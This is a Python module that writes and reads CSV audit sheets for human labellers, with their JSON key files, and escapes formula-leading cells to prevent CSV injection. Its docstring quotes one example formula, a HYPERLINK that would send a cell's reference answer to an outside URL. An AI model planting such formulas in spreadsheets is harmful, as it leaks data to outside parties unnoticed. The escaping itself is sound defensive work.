"""CSV sheets a person opens in a spreadsheet (the audits'), written and read in one place.

A cell a spreadsheet would evaluate as a formula (one that begins with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return: an answer ``=HYPERLINK("http://...?ref="&C2, "see")`` would send the
reference answer in C2 away) is written with a leading single quote, so that it shows as the text it
is (OWASP's advice on CSV injection); so is a cell that begins with a quote, so that reading strips
exactly the quotes writing added and gives back every cell as it was.

Every audit writes its blind sheet and reads it back through one class (`BlindSheet`: the sheet, its key
file, each row's case and label checked), and every problem with either is a `SheetError`: one line naming the file, and the row where there is one. A
sheet is UTF-8, with or without the byte-order mark Excel writes ("CSV UTF-8"); any other encoding
is refused, saying how to save it. Its cells may be as long as the toolkit writes them (a problem of
150 KB), past the csv module's default limit of 131,072 characters.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable, Iterable, Sequence
from pathlib import Path
from typing import Any, TypeVar

from pydantic import BaseModel, ValidationError

_FORMULA = ("=", "+", "-", "@", "\t", "\r")
_QUOTE = "'"
# a cell of any length the toolkit writes: the largest limit a C long takes on every platform
FIELD_LIMIT = 2**31 - 1


class SheetError(ValueError):
    """A filled-in sheet or its key file that cannot be read; the message names file and row."""


def as_text(cell: object) -> str:
    """The cell as written to a sheet: a formula's first character is quoted."""
    text = "" if cell is None else str(cell)
    return _QUOTE + text if text.startswith((*_FORMULA, _QUOTE)) else text


def from_text(cell: str) -> str:
    """A cell as read from a sheet: the quote `as_text` added taken off."""
    return cell[1:] if cell.startswith(_QUOTE) and cell[1:].startswith((*_FORMULA, _QUOTE)) else cell


def write_rows(path: Path, header: Sequence[str], rows: Iterable[Sequence[object]]) -> None:
    with path.open("w", newline="", encoding="utf-8") as fh:
        out = csv.writer(fh)
        out.writerow([as_text(c) for c in header])
        out.writerows([as_text(c) for c in row] for row in rows)


def _text(path: Path, what: str) -> str:
    """The file as text: UTF-8, a byte-order mark (Excel's "CSV UTF-8") dropped."""
    try:
        data = path.read_bytes()
    except OSError as exc:
        raise SheetError(f"{path}: cannot read the {what} ({exc.strerror or exc})") from None
    try:
        return data.decode("utf-8-sig")
    except UnicodeDecodeError as exc:
        raise SheetError(f"{path}: the {what} is not UTF-8 (byte 0x{data[exc.start]:02x} at offset {exc.start}); "
                         "save it as \"CSV UTF-8\"") from None


def read_numbered(path: Path, columns: Sequence[str]) -> list[tuple[int, dict[str, str]]]:
    """Each row of a filled-in sheet with its spreadsheet row number (the header is row 1), by its
    header's names, every cell as `as_text` was given it; a SheetError when a column of ``columns``
    is not in its header, or the file is no CSV this reads."""
    reader = csv.reader(io.StringIO(_text(path, "sheet"), newline=""))
    limit = csv.field_size_limit(FIELD_LIMIT)  # the process's limit, given back after
    try:
        header = [from_text(h).strip() for h in next(reader, [])]
        missing = [c for c in columns if c not in header]
        if missing:
            raise SheetError(f"{path}: its header has no column '{missing[0]}' (it has: "
                             f"{', '.join(header) or 'nothing'}): is it this audit's sheet?")
        # a row shorter than the header has its last cells empty; a blank row (a spreadsheet's last) is none
        rows = [(n, {name: from_text(row[i]) if i < len(row) else "" for i, name in enumerate(header)})
                for n, row in enumerate(reader, 2) if any(cell.strip() for cell in row)]
    except csv.Error as exc:
        raise SheetError(f"{path}:{reader.line_num}: not a CSV row ({exc})") from None
    finally:
        csv.field_size_limit(limit)
    return rows


def read_rows(path: Path) -> list[dict[str, str]]:
    """Each row of a sheet by its header's names (`read_numbered` without the row numbers)."""
    return [row for _, row in read_numbered(path, ())]


def read_key(path: Path, shape: type[BaseModel]) -> dict[str, Any]:
    """A sheet's key file (JSON) as it is, checked against ``shape`` (a model of the fields its audit
    reads, strict: a number is no string); a SheetError naming the file, and the first field that is
    wrong, otherwise."""
    text = _text(path, "key file")
    try:
        shape.model_validate_json(text, strict=True)
    except ValidationError as exc:
        first = exc.errors()[0]
        if first["type"] == "json_invalid":
            raise SheetError(f"{path}: the key file is not JSON ({first['msg']})") from None
        where = ".".join(str(part) for part in first["loc"])
        raise SheetError(f"{path}: not this audit's key file ({where + ': ' if where else ''}"
                         f"{first['msg'][0].lower() + first['msg'][1:]})") from None
    return json.loads(text)


T = TypeVar("T")


def key_path(sheet: Path) -> Path:
    """Where a sheet's key file is by default: beside it, SHEET.key.json."""
    return sheet.with_name(sheet.name + ".key.json")


class BlindSheet:
    """A sheet a person fills in, blind to what it audits: one row per case, named in its ``ident``
    column, the person's answer in its ``label`` column; what the sheet hides (the grader's or the
    judge's verdicts) is in its key file, by default beside it (SHEET.key.json). Every audit writes and
    reads its sheets here: a sheet or key that exists is never written over (it may hold a person's
    labels), and read back, each row names a case of the key, once, its label read by the audit."""

    def __init__(self, path: Path, ident: str, label: str, key: Path | None = None) -> None:
        self.path, self.ident, self.label = path, ident, label
        self.key = key if key is not None else key_path(path)

    def write(self, header: Sequence[str], rows: Iterable[Sequence[object]], key: dict[str, Any] | None) -> None:
        """The sheet (a cell a spreadsheet would evaluate written as text) and, unless None, its key."""
        if self.path.exists() or (key is not None and self.key.exists()):
            raise FileExistsError(f"{self.path} exists; a sheet is never overwritten: give another file")
        write_rows(self.path, header, rows)
        if key is not None:
            self.key.write_text(json.dumps(key, indent=2))

    def read_key(self, shape: type[BaseModel]) -> dict[str, Any]:
        return read_key(self.key, shape)

    def labels(self, cases: Iterable[str], read: Callable[[str], T], *,
               every: bool) -> dict[str, tuple[T, dict[str, str]]]:
        """Each filled-in row's case -> its label as ``read`` reads the cell (a ValueError: that row's
        error) and the row; a SheetError naming file and row for a case not in ``cases``, a case twice,
        and with ``every`` a blank label or a case without a row (else a blank label is unfilled)."""
        wanted, out = list(cases), {}
        known = set(wanted)
        for n, row in read_numbered(self.path, (self.ident, self.label)):
            case, text = row[self.ident].strip(), row[self.label].strip()
            if case not in known:
                raise SheetError(f"{self.path}:{n}: {self.ident} '{case}' is not in {self.key.name}")
            if case in out:
                raise SheetError(f"{self.path}:{n}: {self.ident} '{case}' has a second row")
            if not text:
                if every:
                    raise SheetError(f"{self.path}:{n}: {self.ident} '{case}' has no {self.label}")
                continue
            try:
                out[case] = (read(text), row)
            except ValueError as exc:
                raise SheetError(f"{self.path}:{n}: {exc}") from None
        missing = [c for c in wanted if c not in out] if every else []
        if missing:
            raise SheetError(f"{self.path}: {self.ident} '{missing[0]}' has no row"
                             + (f" ({len(missing) - 1} more)" if missing[1:] else ""))
        return out
